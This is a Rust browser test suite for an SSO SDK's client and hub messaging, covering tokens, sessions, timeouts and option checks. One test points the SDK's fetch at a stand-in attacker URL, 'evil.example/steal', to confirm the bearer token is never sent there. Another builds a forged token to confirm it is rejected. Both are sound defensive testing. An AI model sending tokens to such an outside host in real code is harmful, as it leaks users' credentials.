//! The SDK's RPC client against the real hub, in a real browser. The hub runs in the
//! test page itself (registered for the page's own origin), so the whole message path
//! — handshake, port, envelopes, errors, events — is the production one; only the
//! iframe around the hub is left out (the end-to-end suite covers it across sites).
#![cfg(target_arch = "wasm32")]
// Test helpers outside #[test] functions: a failure should stop the test loudly.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crosspass_hub::{Hub, HubConfig};
use crosspass_protocol::jose::b64_encode;
use crosspass_protocol::rpc::{SessionBeginParams, StorageRung};
use crosspass_protocol::{AccessToken, ErrorCode, ScopeSet};
use crosspass_sdk::client::{Client, ConnectOptions};
use crosspass_sdk::error::SdkError;
use js_sys::{Function, Reflect};
use std::rc::Rc;
use wasm_bindgen::prelude::*;
use wasm_bindgen_test::*;

wasm_bindgen_test_configure!(run_in_browser);

const ISSUER: &str = "http://sso.localhost:8080";
const AUDIENCE: &str = "http://sso.localhost:8080/api";

fn origin() -> String {
    web_sys::window().unwrap().location().origin().unwrap()
}

fn now() -> i64 {
    (js_sys::Date::now() / 1000.0) as i64
}

fn access_token(client: &str, tenant: &str, scope: &str, exp: i64) -> String {
    let header = b64_encode(br#"{"alg":"EdDSA","kid":"k1","typ":"at+jwt"}"#);
    let claims = b64_encode(
        format!(
            r#"{{"iss":"{ISSUER}","sub":"u1","aud":"{AUDIENCE}","client_id":"{client}","tenant":"{tenant}",
            "scope":"{scope}","jti":"j","iat":{},"exp":{exp}}}"#,
            now() - 5
        )
        .as_bytes(),
    );
    format!("{header}.{claims}.c2ln")
}

/// Starts a hub for `client` in this page; its token endpoint (a data: URL) answers
/// every assertion with `token`.
async fn start_hub(client: &str, origins: &[&str], token: Option<&str>) {
    let origins: Vec<String> = origins.iter().map(|o| format!("\"{o}\"")).collect();
    let mut config = HubConfig::from_json(&format!(
        r#"{{"client_id":"{client}","tenant":"{client}","origins":[{}],"issuer":"{ISSUER}",
        "api_audience":"{AUDIENCE}","token_endpoint":"/oauth/token","scopes":"form.read form.write"}}"#,
        origins.join(",")
    ))
    .unwrap();
    if let Some(token) = token {
        config.token_endpoint = format!(
            "data:application/json,{}",
            js_sys::encode_uri_component(&format!(
                r#"{{"access_token":"{token}","token_type":"Bearer"}}"#
            ))
        );
    }
    Hub::start(config).await.unwrap();
}

fn options(client: &str, extra: &str) -> JsValue {
    let hub_url = format!("{}/hub", origin());
    js_sys::JSON::parse(&format!(
        r#"{{"hubUrl":"{hub_url}","clientId":"{client}","timeoutMs":2000{extra}}}"#
    ))
    .unwrap()
}

/// A `getAssertion` that counts its calls in `globalThis[counter]`.
fn counting_assertion(counter: &str) -> Function {
    Function::new_no_args(&format!(
        "globalThis.{counter} = (globalThis.{counter} || 0) + 1; \
         return new Promise(r => setTimeout(() => r('h.p.s'), 50));"
    ))
}

fn calls(counter: &str) -> f64 {
    Reflect::get(&js_sys::global(), &counter.into())
        .unwrap()
        .as_f64()
        .unwrap_or(0.0)
}

async fn connect(client: &str, get_assertion: Option<Function>) -> Rc<Client> {
    let opts = options(client, "");
    if let Some(f) = get_assertion {
        Reflect::set(&opts, &"getAssertion".into(), &f).unwrap();
    }
    Client::connect_in(ConnectOptions::from_js(&opts).unwrap(), false)
        .await
        .unwrap()
}

#[wasm_bindgen_test]
fn options_are_checked() {
    let bad = [
        "1",
        r#"{"clientId":"abc"}"#,
        r#"{"hubUrl":"https://sso.example/hub"}"#,
        r#"{"hubUrl":"https://sso.example/hub","clientId":""}"#,
        r#"{"hubUrl":"https://sso.example/hub","clientId":"abc","timeoutMs":-1}"#,
        r#"{"hubUrl":"https://sso.example/hub","clientId":"abc","getAssertion":"no"}"#,
        r#"{"hubUrl":"https://sso.example/hub","clientId":"abc","scope":"a  b"}"#,
    ];
    for text in bad {
        let err = ConnectOptions::from_js(&js_sys::JSON::parse(text).unwrap()).unwrap_err();
        assert_eq!(err.code(), ErrorCode::InvalidRequest, "{text}");
    }
    let ok = ConnectOptions::from_js(&options("abc", r#","scope":"form.read""#)).unwrap();
    assert_eq!(ok.scope.to_string(), "form.read");
    assert_eq!(ok.timeout_ms, 2000);
}

#[wasm_bindgen_test]
fn errors_reach_js_as_crosspass_errors() {
    let e = SdkError::Destroyed.to_js();
    assert_eq!(Reflect::get(&e, &"name".into()).unwrap(), "CrosspassError");
    assert_eq!(Reflect::get(&e, &"code".into()).unwrap(), "destroyed");
    assert!(e.is_instance_of::<js_sys::Error>());
}

#[wasm_bindgen_test]
async fn without_a_session_or_callback_login_is_required() {
    start_hub("sdk-a", &[&origin()], None).await;
    let client = connect("sdk-a", None).await;
    let err = client.get_token(None).await.unwrap_err();
    assert_eq!(err.code(), ErrorCode::LoginRequired);
    let status = client.storage().await.unwrap();
    assert_eq!(status.rung, StorageRung::Unpartitioned);
    assert!(!status.can_request);
}

#[wasm_bindgen_test]
async fn concurrent_get_token_calls_share_one_sign_in() {
    let token = access_token("sdk-b", "sdk-b", "form.read form.write", now() + 600);
    start_hub("sdk-b", &[&origin()], Some(&token)).await;
    let client = connect("sdk-b", Some(counting_assertion("__sdkB"))).await;
    let read = ScopeSet::parse("form.read").unwrap();
    let (a, b, c) = futures_join3(
        client.get_token(None),
        client.get_token(Some(read.clone())),
        client.get_token(Some(read)),
    )
    .await;
    for grant in [a, b, c] {
        assert_eq!(grant.unwrap().access_token.expose_secret(), token);
    }
    assert_eq!(calls("__sdkB"), 1.0);
    // The stored token now answers without a new assertion.
    client.get_token(None).await.unwrap();
    assert_eq!(calls("__sdkB"), 1.0);
}

#[wasm_bindgen_test]
async fn sign_in_sign_out_and_session_events() {
    start_hub("sdk-c", &[&origin()], None).await;
    let client = connect("sdk-c", None).await;
    let seen = Function::new_with_args("e", "(globalThis.__sdkC ||= []).push(e.signedIn)");
    client.on_session(seen);
    let token = access_token("sdk-c", "sdk-c", "form.read", now() + 600);
    let grant = client
        .begin(SessionBeginParams::AccessToken {
            access_token: AccessToken::new(token.clone()),
        })
        .await
        .unwrap();
    assert_eq!(grant.scope.to_string(), "form.read");
    assert_eq!(
        client
            .get_token(None)
            .await
            .unwrap()
            .access_token
            .expose_secret(),
        token
    );
    let wider = ScopeSet::parse("form.write").unwrap();
    assert_eq!(
        client.get_token(Some(wider)).await.unwrap_err().code(),
        ErrorCode::LoginRequired
    );
    client.sign_out().await.unwrap();
    assert_eq!(
        client.get_token(None).await.unwrap_err().code(),
        ErrorCode::LoginRequired
    );
    let events = Reflect::get(&js_sys::global(), &"__sdkC".into()).unwrap();
    assert_eq!(js_sys::JSON::stringify(&events).unwrap(), "[true,false]");

    let bad = Client::credential_from_js(
        &js_sys::JSON::parse(r#"{"assertion":"a","accessToken":"b"}"#).unwrap(),
    );
    assert_eq!(bad.unwrap_err().code(), ErrorCode::InvalidRequest);
    let forged = access_token("someone-else", "sdk-c", "form.read", now() + 600);
    let err = client
        .begin(SessionBeginParams::AccessToken {
            access_token: AccessToken::new(forged),
        })
        .await
        .unwrap_err();
    assert_eq!(err.code(), ErrorCode::InvalidToken);
}

#[wasm_bindgen_test]
async fn destroy_fails_later_calls() {
    start_hub("sdk-d", &[&origin()], None).await;
    let client = connect("sdk-d", None).await;
    client.destroy();
    assert_eq!(
        client.get_token(None).await.unwrap_err(),
        SdkError::Destroyed
    );
    assert_eq!(client.sign_out().await.unwrap_err(), SdkError::Destroyed);
}

#[wasm_bindgen_test]
async fn an_unregistered_origin_times_out_cleanly() {
    start_hub("sdk-e", &["http://abc.localhost:8081"], None).await;
    let opts = options("sdk-e", "");
    Reflect::set(&opts, &"timeoutMs".into(), &500.into()).unwrap();
    let err = Client::connect_in(ConnectOptions::from_js(&opts).unwrap(), false)
        .await
        .unwrap_err();
    assert_eq!(err.code(), ErrorCode::Timeout);
}

#[wasm_bindgen_test]
async fn fetch_never_sends_the_token_elsewhere() {
    start_hub("sdk-f", &[&origin()], None).await;
    let client = connect("sdk-f", None).await;
    let err = client
        .fetch("https://evil.example/steal", &JsValue::UNDEFINED)
        .await
        .unwrap_err();
    assert_eq!(err.code(), ErrorCode::InvalidRequest);
}

/// Polls three futures to completion together (no executor crate needed).
async fn futures_join3<A, B, C>(a: A, b: B, c: C) -> (A::Output, B::Output, C::Output)
where
    A: std::future::Future,
    B: std::future::Future,
    C: std::future::Future,
{
    let (mut a, mut b, mut c) = (Box::pin(a), Box::pin(b), Box::pin(c));
    let (mut ra, mut rb, mut rc) = (None, None, None);
    std::future::poll_fn(|cx| {
        use std::task::Poll;
        if ra.is_none() {
            if let Poll::Ready(v) = a.as_mut().poll(cx) {
                ra = Some(v);
            }
        }
        if rb.is_none() {
            if let Poll::Ready(v) = b.as_mut().poll(cx) {
                rb = Some(v);
            }
        }
        if rc.is_none() {
            if let Poll::Ready(v) = c.as_mut().poll(cx) {
                rc = Some(v);
            }
        }
        if ra.is_some() && rb.is_some() && rc.is_some() {
            Poll::Ready(())
        } else {
            Poll::Pending
        }
    })
    .await;
    (ra.unwrap(), rb.unwrap(), rc.unwrap())
}

/// A timer runs its callback when left alone; dropped, it never runs and what the
/// callback held is freed at once. Every RPC call's deadline is such a timer, dropped
/// when the answer comes, so answered calls leave nothing behind.
#[wasm_bindgen_test]
async fn timers_run_unless_dropped_and_free_what_they_hold() {
    use crosspass_sdk::js;
    use std::cell::Cell;
    let ran = Rc::new(Cell::new(0));
    let (a, b) = (ran.clone(), ran.clone());
    let kept = js::after(0, move || a.set(a.get() + 1));
    let cancelled = js::after(0, move || b.set(b.get() + 10));
    assert_eq!(Rc::strong_count(&ran), 3);
    drop(cancelled);
    assert_eq!(
        Rc::strong_count(&ran),
        2,
        "a dropped timer frees its callback"
    );
    crosspass_web::sleep(20).await;
    assert_eq!(ran.get(), 1, "the kept timer ran, the dropped one did not");
    drop(kept);
    assert_eq!(Rc::strong_count(&ran), 1);
}

/// A hub that completes the handshake and then never answers: every call times out on
/// its own deadline, the shorter first, each naming its method, and a later call still
/// gets its full time.
#[wasm_bindgen_test]
async fn calls_time_out_on_their_own_deadlines() {
    use crosspass_protocol::rpc::{Call, Method, Ready, Request, Response, StorageStatus};
    use crosspass_sdk::connection::{Connection, HubTarget};
    use web_sys::MessageEvent;

    // Answers `hello` with `ready` on the transferred port, and nothing else ever.
    let silent = Closure::<dyn FnMut(MessageEvent)>::new(|e: MessageEvent| {
        let (Some(text), Some(port)) = (
            e.data().as_string(),
            e.ports().get(0).dyn_into::<web_sys::MessagePort>().ok(),
        ) else {
            return;
        };
        let Ok(Request {
            id,
            call: Call::Hello(_),
        }) = Request::decode(&text)
        else {
            return;
        };
        let ready = Ready {
            protocol: crosspass_protocol::rpc::PROTOCOL_VERSION,
            hub_version: "silent".into(),
            methods: vec![Method::TokenGet, Method::StorageStatus],
            storage: StorageStatus {
                rung: StorageRung::Memory,
                can_request: false,
            },
        };
        port.post_message(&Response::ok(id, &ready).encode().into())
            .unwrap();
    });
    let window = web_sys::window().unwrap();
    window
        .add_event_listener_with_callback("message", silent.as_ref().unchecked_ref())
        .unwrap();
    let target = HubTarget::new(&format!("{}/hub", origin()), "silent".parse().unwrap()).unwrap();
    let conn = Rc::new(
        Connection::open_in(None, &target, 2_000, |_| {})
            .await
            .unwrap(),
    );

    let started = js_sys::Date::now();
    let (long, short) = (conn.clone(), conn.clone());
    let long = async move {
        long.call_with_timeout::<StorageStatus>(Call::StorageStatus, 400)
            .await
    };
    let short = async move {
        let r = short
            .call_with_timeout::<StorageStatus>(
                Call::TokenGet(crosspass_protocol::rpc::TokenGetParams {
                    scope: ScopeSet::parse("form.read").unwrap(),
                }),
                100,
            )
            .await;
        (r, js_sys::Date::now() - started)
    };
    let (long, (short, short_ms)) = futures_util::future::join(long, short).await;
    let long_ms = js_sys::Date::now() - started;
    match short {
        Err(SdkError::Timeout(m)) => assert!(m.contains("token.get"), "{m}"),
        other => panic!("expected a timeout, got {other:?}"),
    }
    match long {
        Err(SdkError::Timeout(m)) => assert!(m.contains("storage.status"), "{m}"),
        other => panic!("expected a timeout, got {other:?}"),
    }
    assert!(
        (100.0..400.0).contains(&short_ms),
        "short call ended after {short_ms} ms"
    );
    assert!(long_ms >= 400.0, "long call ended after {long_ms} ms");

    // The timer was set for the earliest deadline; a call made now still gets all of its own.
    crosspass_web::sleep(50).await;
    let again = js_sys::Date::now();
    assert!(matches!(
        conn.call_with_timeout::<StorageStatus>(Call::StorageStatus, 150)
            .await,
        Err(SdkError::Timeout(_))
    ));
    assert!(js_sys::Date::now() - again >= 150.0);
    conn.close();
    window
        .remove_event_listener_with_callback("message", silent.as_ref().unchecked_ref())
        .unwrap();
}
